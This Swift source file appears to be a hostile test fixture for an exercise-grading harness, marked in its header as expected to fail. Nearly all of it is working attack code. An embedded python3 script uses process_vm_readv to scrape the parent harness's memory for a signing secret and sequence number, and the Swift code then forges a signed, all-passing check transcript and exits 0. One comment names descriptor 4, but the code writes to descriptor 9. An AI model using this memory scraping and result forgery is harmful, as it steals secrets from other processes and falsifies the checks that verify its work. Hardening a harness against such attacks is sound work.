// hostile: the starter's router that starts python3 (from /usr/bin, inside the run) to read the harness's memory
// with process_vm_readv (through ctypes, no /proc/<pid>/mem), takes the secret and the last sequence number, writes
// a whole passing transcript for the router check and exits 0 (refused twice: the harness is not dumpable, and the
// run's seccomp filter refuses process_vm_readv)
// expect: failed
// base: starter
// hook: Router
// exercise: deep-link-router
import Foundation

/// The hostile part, run once, when the checks first create the learner's router.
@MainActor func attack() {
    guard let found = ParentScan.run() else { return }
    Forgery.send(secret: found.secret, after: found.sequence)
    exit(0)
}

/// python3 reads its parent's writable mappings with process_vm_readv and prints `secret seq` of the latest record.
enum ParentScan {
    static let script = #"""
    import ctypes, os, re
    libc = ctypes.CDLL(None, use_errno=True)
    class IOVec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
    pid = os.getppid()
    best = None
    for line in open(f"/proc/{pid}/maps"):
        fields = line.split()
        if not fields[1].startswith("rw"):
            continue
        low, high = (int(x, 16) for x in fields[0].split("-"))
        if high - low > 64 << 20:
            continue
        buffer = ctypes.create_string_buffer(high - low)
        local = IOVec(ctypes.cast(buffer, ctypes.c_void_p), high - low)
        remote = IOVec(low, high - low)
        count = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if count <= 0:
            print("error", os.strerror(ctypes.get_errno()))
            continue
        for match in re.finditer(rb'(?<![0-9a-f])([0-9a-f]{64}) \{[^\n]{0,600}?"seq":(\d+)', buffer.raw[:count]):
            sequence = int(match.group(2))
            if best is None or sequence > best[1]:
                best = (match.group(1).decode(), sequence)
    if best:
        print(best[0], best[1])
    """#

    static func run() -> (secret: String, sequence: Int)? {
        let process = Process()
        process.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
        process.arguments = ["-c", script]
        let output = Pipe()
        process.standardOutput = output
        guard (try? process.run()) != nil else { return nil }
        let data = output.fileHandleForReading.readDataToEndOfFile()
        process.waitUntilExit()
        let words = String(decoding: data, as: UTF8.self).split(whereSeparator: \.isWhitespace)
        guard words.count == 2, words[0].count == 64, let sequence = Int(words[1]) else { return nil }
        return (String(words[0]), sequence)
    }
}

/// A passing transcript of the router check, signed with the stolen secret, on the records descriptor (4).
enum Forgery {
    static let steps = [
        "a link to trips/42 shows trip 42",
        "a link to trips/42/log shows trip 42 and its log",
        "popToRoot() empties the stack",
        "a malformed link leaves the stack as it was",
    ]

    static func send(secret: String, after sequence: Int) {
        var next = sequence + 1
        var lines: [String] = []
        func add(_ body: String) {
            lines.append("\(secret) {\(body),\"seq\":\(next)}")
            next += 1
        }
        for step in steps { add(#""result":{"check":"router","name":"\#(step)","status":"pass"}"#) }
        add(#""completed":"router""#)
        add(#""end":true"#)
        FileHandle(fileDescriptor: 9).write(Data((lines.joined(separator: "\n") + "\n").utf8))
    }
}
